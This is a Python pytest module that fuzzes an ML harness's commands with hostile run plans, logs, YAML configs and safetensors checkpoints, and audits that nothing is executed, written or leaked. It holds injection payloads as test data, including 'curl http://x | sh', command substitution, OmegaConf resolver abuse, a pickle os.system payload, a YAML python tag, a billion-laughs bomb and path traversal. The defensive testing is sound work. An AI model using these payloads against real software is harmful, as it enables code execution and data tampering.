"""Plans, records, configs and weights of a stranger: refused in one line or read as data, by every command that reads them.

The files are generated from one seed: each is a sound one with a part that is wrong. While
a command reads one, an audit hook sees every file that the process opens, and what it starts.
"""

import json
import os
import random
import resource
import shutil
import signal
import struct
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from safetensors.torch import save_file

from harness import paths, records, tags
from harness.__main__ import main
from harness.checkpoints import finetuned, native
from harness.config import resolve
from harness.config.choices import TaskKind
from harness.config.schema import TaskConfig, TokenizerConfig
from harness.data.tokenizer import build
from harness.models.config import EncoderConfig
from harness.models.encoder import initialise
from harness.models.heads import SequenceClassifier
from harness.plugins.export.checkpoint import export
from harness.study import run_folder
from harness.tracking import run_log

pytestmark = pytest.mark.long

COUNTS = {
    "plan": 20,
    "record": 50,
    "result": 40,
    "log": 20,
    "config": 12,
    "shape": 14,
    "published": 16,
    "weights": 8,
    "task": 10,
}
"""Name of a kind of file -> how many are generated."""

MOST_BYTES = 2 << 30
"""Memory that a command may take more than the process has."""

CODE = "__import__('os').system('touch executed')"

VALUES = [
    *(None, True, -1, 0, 2**31, 10**30, 1e308, float("inf"), float("nan"), 0.5),
    *(
        "",
        "x",
        "\x1b]0;forged\x07\x1b[2J\nfinished\r",
        "\u202eforged",
        "../../../private",
        "/etc/passwd",
        "a" * 100_000,
        "\ud800",
    ),
    *("${oc.env:SECRET_OF_TEST}", "${oc.create:{_target_:os.system}}", "$(touch executed)", "'; touch executed #", CODE),
    *([], {}, [[]], [None], ["a"] * 1000, {"_target_": "os.system", "command": "touch executed"}, {"()": "os.system"}),
]
"""What stands in the place of a value of another type, size or meaning."""


@dataclass
class Watched:
    """What a process did while a command ran."""

    root: Path
    private: Path
    done: list[str] = field(default_factory=list)
    active: bool = False

    def see(self, event: str, arguments: tuple) -> None:
        """Keeps what is written elsewhere, read of the private file, started or connected."""
        if not self.active:
            return
        if event in ("os.system", "os.exec", "os.posix_spawn", "socket.connect", "pty.spawn"):
            self.done.append(f"{event} {arguments}")
        if event == "subprocess.Popen" and "executed" in str(arguments):
            self.done.append(f"{event} {arguments}")
        if event == "open" and isinstance(arguments[0], str | bytes):
            path, flags = Path(os.fsdecode(arguments[0])).absolute(), arguments[2] or 0
            is_written = flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
            if path == self.private or (is_written and not self._may_write(path)):
                self.done.append(f"{event} {arguments}")
        if event in ("os.remove", "os.rename", "os.rmdir", "shutil.rmtree", "os.truncate") and self.private.is_relative_to(
            Path(os.path.abspath(os.fsdecode(arguments[0])))
        ):
            self.done.append(f"{event} {arguments}")

    def _may_write(self, path: Path) -> bool:
        libraries = ("__pycache__", ".cache", ".config")
        return path.is_relative_to(self.root) or path.is_relative_to("/dev") or bool({*path.parts} & {*libraries})


WATCHED: list[Watched] = []


@pytest.fixture(scope="module")
def hook() -> None:
    """Python removes no hook: it looks at the list, which is empty outside of these tests."""
    sys.addaudithook(lambda event, arguments: [one.see(event, arguments) for one in WATCHED] and None)


@pytest.fixture
def watched(hook, tmp_path, monkeypatch) -> Iterator[Watched]:
    private = tmp_path.parent / f"{tmp_path.name}-private"
    private.write_text("kept")
    monkeypatch.setenv("SECRET_OF_TEST", "value-of-the-environment")
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    watched = Watched(tmp_path, private)
    WATCHED.append(watched)
    yield watched
    WATCHED.remove(watched)
    assert private.read_text() == "kept"
    assert not list(tmp_path.rglob("executed"))


@pytest.fixture(scope="module")
def sound(once: Callable) -> Path:
    """`out` with a study of one finished run and its weights, and beside it `published`, the same weights as an export."""

    return once("hostile", make_sound)


def make_sound(root: Path) -> None:
    from harness.config import compose

    configs: list = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "argv", ["harness"])
        compose.main(["task=bag", "scale=tiny", "study=s", f"output={root / 'out'}"], lambda found: configs.extend(found) or 0)
    run = root / "out" / "s" / "base-1"
    run.mkdir(parents=True)
    paths.made(root / "out")
    resolve.save(configs[0], run / "config.yaml")
    log = run_log.RunLog(run)
    log.stage("finetune", 2)
    log.curve("finetune/loss", 1, 0.5, 10)
    log.value("eval/score", 0.5)
    log.finish("finished")
    named = {tags.STUDY: "s", "arm": "base", tags.COMMAND: "harness task=bag", tags.LIFTED: "[]"}
    record = {"attempt": "a1", "name": "base", "started": 1, "tags": named, "parameters": {"seed": "0"}, "inputs": {}}
    run_folder.write(run, record)
    entry = {"folder": "s/base-1", "title": "base", "timed": False, "needs": None}
    plan = {"python -m harness task=bag study=s": {"time": 1, "folder": str(root), "sweep": None, "runs": [entry]}}
    records.write(root / "out" / "s" / "plan.json", plan)
    shape = {"hidden_size": 16, "num_hidden_layers": 2, "num_attention_heads": 2, "intermediate_size": 32}
    tokenizer = build(TokenizerConfig(vocab_size=60, min_frequency=1), ["the cat sat", "a dog"])
    model = SequenceClassifier(EncoderConfig(vocab_size=tokenizer.get_vocab_size(), max_position_embeddings=32, **shape), 2)
    initialise(model, 0.5, 0)
    tokenizer.save(str(root / "tokenizer.json"))
    task = TaskConfig(name="mine", kind=TaskKind.classification, fields=["text"], labels=["a", "b"], max_length=16)
    finetuned.save(run / paths.WEIGHTS, model, task, root / "tokenizer.json")
    export(run / paths.WEIGHTS, root / "published")


Case = tuple[str, Path, bytes | Callable[[Path], Any]]
"""What is wrong, the file, and its content or what makes it."""


def places(value: Any, at: tuple = ()) -> Iterator[tuple]:
    """Each place in a nested value."""
    yield at
    if isinstance(value, dict | list):
        for key, part in value.items() if isinstance(value, dict) else enumerate(value):
            yield from places(part, (*at, key))


def changed(content: Any, chance: random.Random) -> tuple[str, Any]:
    """The content with one value that is another, left out, or under another name."""
    content = json.loads(json.dumps(content))
    at = chance.choice([place for place in places(content) if place])
    parent = content
    for key in at[:-1]:
        parent = parent[key]
    kind, value = chance.random(), chance.choice(VALUES)
    if kind < 0.75:
        parent[at[-1]] = value
    elif isinstance(parent, dict) and kind < 0.9:
        parent[str(value)] = parent.pop(at[-1])
    else:
        del parent[at[-1]]
    return f"{'.'.join(map(str, at))} {kind:.1f} {str(value)[:30]!r}", content


def json_cases(path: Path, count: int, seed: int) -> Iterator[Case]:
    """JSON files: wrong values, and wholes that are no such object."""
    chance, content = random.Random(seed), json.loads(path.read_bytes())
    yield from whole_cases(path)
    deep = b"[" * 3000 + b"]" * 3000
    for text in (b"", b"[]", b"null", b"\xff\xfe{}", deep, b'{"a": %s}' % deep, b"1" * 5000, b'{"a": Infinity}'):
        yield text[:10].decode(errors="replace"), path, text
    for _ in range(count):
        what, value = changed(content, chance)
        yield what, path, json.dumps(value).encode()


def whole_cases(path: Path) -> Iterator[Case]:
    """In the place of a file: what has no end, what leads elsewhere, what is larger than memory."""
    yield "FIFO", path, os.mkfifo
    yield "device", path, lambda place: place.symlink_to("/dev/zero")
    yield "folder", path, os.mkdir
    yield "nothing", path, lambda place: None
    yield "a terabyte", path, lambda place: (place.touch(), os.truncate(place, 1 << 40))


def put(case: Case, root: Path) -> None:
    _, path, content = case
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        content(path)


@pytest.fixture
def obey_nothing(watched: Watched, capsys: pytest.CaptureFixture) -> Callable[..., None]:
    """Runs commands on a case: each ends by itself with at most one line of a mistake, and nothing was obeyed."""

    def tried(case: Case, *commands: list[str]) -> None:
        put(case, watched.root)
        for command in commands:
            capsys.readouterr()
            limits = resource.getrlimit(resource.RLIMIT_AS)
            used = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
            signal.alarm(120)  # ends a test that would wait for ever
            watched.active = True
            resource.setrlimit(resource.RLIMIT_AS, (used + MOST_BYTES, limits[1]))
            try:
                code = main(command)
            finally:
                resource.setrlimit(resource.RLIMIT_AS, limits)
                watched.active = False
                signal.alarm(0)
            out, err = capsys.readouterr()
            err = "".join(line for line in err.splitlines(keepends=True) if "WARNING mlflow" not in line)  # that it cuts a tag
            where = f"{case[0][:60]} of {case[1].name}: {command}\n{out[:2000]}{err[:2000]}"
            assert code in (0, 1, 2), where
            assert err.count("\n") == (code == 2), where
            assert not {*"\x1b\x07\r\u202e"} & {*out, *err}, where
            assert "Traceback" not in out + err, where
            assert "value-of-the-environment" not in out + err, where
            assert len(out + err) < 10_000, where
            assert watched.done == [], where

    return tried


@pytest.fixture
def copied(sound: Path, tmp_path: Path) -> Path:
    shutil.copytree(sound, tmp_path, dirs_exist_ok=True)
    return tmp_path


READ_RUNS = (["status", "output=out"], ["status", "s", "output=out"], ["clean", "output=out", "--yes"])
LOADED = (["predict", "s/base-1", "input=in.txt", "to=out.jsonl", "output=out", "hardware.threads=1"],)
PUBLISHED = (["predict", "output=vectors", "checkpoint=published", "input=in.txt", "to=out.jsonl", "hardware.threads=1"],)


def restored(case: Case, sound: Path, root: Path) -> None:
    """The sound file in its place again, and what a command has made is gone."""
    relative = case[1].relative_to(root)
    put((case[0], case[1], (sound / relative).read_bytes()), root)
    for name in ("out.jsonl", "export"):
        (root / name).unlink(missing_ok=True) if (root / name).is_file() else shutil.rmtree(root / name, ignore_errors=True)


def tried_all(cases: list[Case], commands: tuple, sound: Path, copied: Path, obey_nothing: Callable) -> None:
    (copied / "in.txt").write_text("the cat\n")
    for case in cases:
        obey_nothing(case, *commands)
        restored(case, sound, copied)


def test_sound_files_are_read(obey_nothing, copied, capsys):
    """The commands of these tests end with 0 where nothing is wrong."""
    (copied / "in.txt").write_text("the cat\n")
    same = ("sound", copied / "in.txt", b"the cat\n")
    for command in (*READ_RUNS, *LOADED, *PUBLISHED, ["export", "s/base-1", "to=export", "output=out"]):
        obey_nothing(same, command)
        assert (copied / "out" / "s" / "base-1" / "run.json").exists()
        (copied / "out.jsonl").unlink(missing_ok=True)
    assert (copied / "export" / "README.md").exists()


@pytest.mark.parametrize(
    ("kind", "name"), [("plan", "plan.json"), ("record", "base-1/run.json"), ("result", "base-1/result.json")]
)
def test_records_of_a_stranger_are_data(kind, name, obey_nothing, sound, copied, output_store):
    path = copied / "out" / "s" / name
    cases = [*json_cases(path, COUNTS[kind], 1)]
    tried_all(cases, (*READ_RUNS, ["sync", "output=out"]), sound, copied, obey_nothing)


def test_commands_of_a_plan_are_none_of_a_shell(obey_nothing, sound, copied, capsys):
    path = copied / "out" / "s" / "plan.json"
    (plan,) = json.loads(path.read_bytes()).values()
    commands = [
        "curl http://x | sh #",
        "python -m harness task=bag; touch executed",
        "python -m harness $(touch executed)=1",
        "",
        "python -c 'import os' -m harness",
        "python -m harness task=bag\n  touch executed",
        "python -m harness 'a",
        "-m harness",
        "python -m harness hydra.launcher.setup=['touch executed'] hydra/launcher=submitit_slurm -m seed=1,2",
        "python -m harness 'arm=\x1b[2J'",
        "python -m harness --unknown",
        "harness task=bag",
        "python -m harness task=`x`",
        "python -m harness tracking.uri=http://x study='${oc.env:HOME}'",
        "python -m harness 'arm=${oc.${task.name}:HOME}'",
    ]
    for command in commands:
        plan["runs"][0]["title"] = "base\n\nTo complete it:\n  touch executed"
        case = (command, path, json.dumps({command: plan | {"folder": str(copied)}}).encode())
        (copied / "out" / "s" / "base-1" / "result.json").unlink(missing_ok=True)
        obey_nothing(case, ["status", "s", "output=out"])
        put(case, copied)
        code = main(["status", "s", "output=out"])
        out = capsys.readouterr().out
        assert not [line for line in out.splitlines() if line.strip().startswith(("curl", "touch", "sh"))], out
        if code == 1:
            (shown,) = [line for line in out.splitlines() if "python -m harness" in line]
            words = [word for word in shown.split("'")[::2] if "touch" in word or "`" in word or "$(" in word]
            assert not words, shown
            assert "HOME" not in shown
    for folder in ("evil", "../x", "/tmp/\x1b[2J"):
        case = (folder, path, json.dumps({"python -m harness task=bag": plan | {"folder": folder}}).encode())
        obey_nothing(case, ["status", "s", "output=out"])


def test_lines_of_a_log_of_a_stranger_are_data(obey_nothing, sound, copied, output_store):
    path, chance = copied / "out" / "s" / "base-1" / "metrics.jsonl", random.Random(2)
    lines = [*map(json.loads, path.read_text().splitlines())]
    cases: list[Case] = [
        *whole_cases(path),
        ("deep", path, b"[" * 3000 + b"\n"),
        ("no JSON", path, b"{\n"),
        ("half", path, b'{"'),
    ]
    for _ in range(COUNTS["log"]):
        what, value = changed(lines, chance)
        entries = value if isinstance(value, list) else [value]
        cases.append((what, path, ("\n".join(map(json.dumps, entries)) + "\n").encode()))
    sync = [["sync", "output=out"]]
    for case in cases:
        obey_nothing(case, *READ_RUNS, *sync)
        restored(case, sound, copied)


@pytest.fixture
def output_store(store_template: Path, copied: Path) -> None:
    shutil.copy(store_template, copied / "out")


def test_configs_of_runs_of_a_stranger_are_data(obey_nothing, sound, copied):
    """`export` makes the model card of it."""
    path, chance = copied / "out" / "s" / "base-1" / "config.yaml", random.Random(3)
    lines = path.read_text().splitlines()
    bomb = "a: &a [x, x, x, x, x, x, x, x]\n" + "".join(
        f"{b}: &{b} [{', '.join(['*' + a] * 8)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    wholes = [
        "a: " + "[" * 3000 + "]" * 3000,
        "a: " + "{b: " * 3000 + "}" * 3000,
        bomb,
        "a: &a [*a]",
        "a: !!python/name:os.system x",
    ]
    cases: list[Case] = [*whole_cases(path), *((whole[:20], path, whole.encode()) for whole in wholes)]
    for _ in range(COUNTS["config"]):
        place, value = chance.randrange(len(lines)), chance.choice(VALUES)
        key = lines[place].partition(":")[0]
        try:
            text = "\n".join([*lines[:place], f"{key}: {json.dumps(value)}", *lines[place + 1 :]]).encode()
        except UnicodeEncodeError:
            continue
        cases.append((f"{key} {str(value)[:30]!r}", path, text))
    tried_all(cases, (["export", "s/base-1", "to=export", "output=out"],), sound, copied, obey_nothing)


@pytest.mark.parametrize(("kind", "name"), [("shape", "model.json"), ("task", "task.json")])
def test_checkpoints_of_a_stranger_are_data(kind, name, obey_nothing, sound, copied):
    path, folder = copied / "out" / "s" / "base-1" / "checkpoint" / name, copied / "out" / "s" / "base-1" / "checkpoint"
    cases = [*json_cases(path, COUNTS[kind], 4)]
    tried_all(cases, LOADED, sound, copied, obey_nothing)
    if kind == "shape":  # the weights state the same shape, so that it is not refused as that of another model
        state, _ = native.tensors(folder / "model.safetensors")
        sizes = {
            "hidden_size": 2**20,
            "vocab_size": 10**8,
            "num_hidden_layers": 10**5,
            "intermediate_size": 2**24,
            "head_size": 2**20,
        }
        for key, size in sizes.items():
            shape = json.loads((sound / path.relative_to(copied)).read_bytes()) | {key: size}
            save_file(state, folder / "model.safetensors", metadata={"shape": json.dumps(shape)})
            obey_nothing((key, path, json.dumps(shape).encode()), *LOADED)


def headers(path: Path) -> Iterator[Case]:
    """Safetensors files whose list of tensors is wrong."""

    def file(header: object, data: bytes = bytes(64), size: int | None = None) -> bytes:
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if size is None else size) + text + data

    def tensor(dtype: str = "F32", shape: object = (4,), offsets: object = (0, 16)) -> dict:
        return {"dtype": dtype, "shape": shape, "data_offsets": offsets}

    class Payload:
        def __reduce__(self):
            return os.system, ("touch executed",)

    import pickle

    yield "pickle", path, pickle.dumps(Payload())
    yield "zip", path, b"PK\x03\x04" + bytes(100)
    for size in (0, 1, 2**24 + 1, 2**40, 2**63, 2**64 - 1):
        yield f"header of {size} bytes", path, file({}, size=size)
    yield "deep", path, file(b'{"a":' * 3000 + b"1" + b"}" * 3000)
    yield "list", path, file([])
    yield "overlap", path, file({"a": tensor(), "b": tensor(offsets=(8, 24))})
    yield "hole", path, file({"a": tensor(), "b": tensor(offsets=(48, 64))})
    yield "beyond the end", path, file({"a": tensor(shape=(10**9,), offsets=(0, 4 * 10**9))})
    yield "backwards", path, file({"a": tensor(offsets=(16, 0))})
    yield "negative", path, file({"a": tensor(shape=(-4,), offsets=(-16, 0))})
    yield "overflow", path, file({"a": tensor(shape=(2**32, 2**32, 4), offsets=(0, 16))})
    yield "unknown type", path, file({"a": tensor("X7")}, bytes(16))
    yield "other type", path, file({"a": tensor("BOOL", (16,))}, bytes(16))
    yield "a name with escapes", path, file({"\x1b[2J\n": tensor()}, bytes(16))
    yield "wrong metadata", path, file({"__metadata__": {"shape": 7}, "a": tensor()}, bytes(16))
    yield "deep shape", path, file({"__metadata__": {"shape": "[" * 3000}, "a": tensor()}, bytes(16))
    yield "many tensors", path, file({f"t{number}": tensor(shape=(0,), offsets=(0, 0)) for number in range(20_000)}, b"")


@pytest.mark.parametrize("where", ["out/s/base-1/checkpoint", "published"])
def test_weights_of_a_stranger_are_data(where, obey_nothing, sound, copied):
    path = copied / where / "model.safetensors"
    cases = [*whole_cases(path), *headers(path)]
    good, chance = path.read_bytes(), random.Random(5)
    for _ in range(COUNTS["weights"]):  # torn: bytes of the list of tensors are others, or the end is missing
        place = chance.randrange(8, 8 + int.from_bytes(good[:8], "little"))
        torn = good[: chance.randrange(len(good))] if chance.random() < 0.3 else good[:place] + b"7" + good[place + 1 :]
        cases.append((f"torn at {place}", path, torn))
    tried_all(cases, LOADED if where != "published" else PUBLISHED, sound, copied, obey_nothing)


def test_published_configs_of_a_stranger_are_data(obey_nothing, sound, copied):
    path = copied / "published" / "config.json"
    cases = [*json_cases(path, COUNTS["published"], 6)]
    known = json.loads(path.read_bytes())
    sizes = {"hidden_size": 2**20, "vocab_size": 10**8, "num_hidden_layers": 10**5, "intermediate_size": 2**24}
    sizes |= {
        "num_attention_heads": 0,
        "max_position_embeddings": 10**8,
        "type_vocab_size": 10**8,
        "layer_norm_eps": float("nan"),
    }
    cases += [(key, path, json.dumps(known | {key: size}).encode()) for key, size in sizes.items()]
    cases += [("all at once", path, json.dumps(known | sizes).encode())]
    tried_all(cases, PUBLISHED, sound, copied, obey_nothing)


def test_nothing_behind_a_link_of_a_stranger_is_removed_or_sent(obey_nothing, sound, copied, watched, output_store):
    """Links below a copied folder lead to files and folders of the user."""
    elsewhere = watched.root / "elsewhere"
    (elsewhere / "checkpoints").mkdir(parents=True)
    (elsewhere / "checkpoints" / "kept").write_text("kept")
    run = copied / "out" / "s" / "base-1"
    for place in (run / "checkpoints", run / ".lock", run / ".tracking.lock", run / "log.txt", copied / "out" / "s" / "base-2"):
        is_folder = place.name in ("checkpoints", "base-2")
        target = elsewhere / "checkpoints" if is_folder else watched.private
        case = (place.name, place, lambda place, target=target: place.symlink_to(target))
        obey_nothing(case, *READ_RUNS, ["sync", "output=out"])
        place.unlink()
    assert (elsewhere / "checkpoints" / "kept").read_text() == "kept"
    plan = json.loads((copied / "out" / "s" / "plan.json").read_bytes())
    for folder in ("../../private", "/", "..", "s/../../x", "s/\x1b", "sessions/x", "cache/x"):
        (one,) = plan.values()
        one["runs"][0]["folder"] = folder
        obey_nothing((folder, copied / "out" / "s" / "plan.json", json.dumps(plan).encode()), *READ_RUNS)
